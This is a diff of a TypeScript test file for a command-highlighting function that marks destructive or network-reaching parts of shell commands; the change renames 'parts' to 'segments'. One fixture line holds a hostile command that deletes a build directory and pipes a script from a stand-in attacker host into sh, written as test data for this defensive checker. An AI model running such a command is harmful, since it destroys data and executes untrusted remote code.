@@ -3,20 +3,20 @@ import { commandMarks } from './command-marks.ts'
 
 test('a command is shown whole, and what writes or reaches out is marked', () => {
   const command = 'npm test && rm -rf build && curl -s https://evil.example/x.sh | sh'
-  const { parts, notes } = commandMarks(command)
-  expect(parts.map(({ text }) => text).join('')).toBe(command)
-  const marked = parts.filter(({ tone }) => tone === 'bad').map(({ text }) => text)
+  const { segments, notes } = commandMarks(command)
+  expect(segments.map(({ text }) => text).join('')).toBe(command)
+  const marked = segments.filter(({ tone }) => tone === 'bad').map(({ text }) => text)
   expect(marked.join(' ')).toContain('build')
-  expect(parts.some(({ tone, text }) => tone !== 'plain' && text.includes('sh'))).toBe(true)
+  expect(segments.some(({ tone, text }) => tone !== 'plain' && text.includes('sh'))).toBe(true)
   expect(notes[0]?.tone).toBe('bad')
 })
 
 test('what only reads has no mark, and what cannot be read says so', () => {
   expect(commandMarks('git log -3')).toEqual({
-    parts: [{ text: 'git log -3', start: 0, tone: 'plain' }],
+    segments: [{ text: 'git log -3', start: 0, tone: 'plain' }],
     notes: [],
   })
   const broken = commandMarks('echo "')
-  expect(broken.parts.map(({ text }) => text).join('')).toBe('echo "')
+  expect(broken.segments.map(({ text }) => text).join('')).toBe('echo "')
   expect(broken.notes).not.toEqual([])
 })
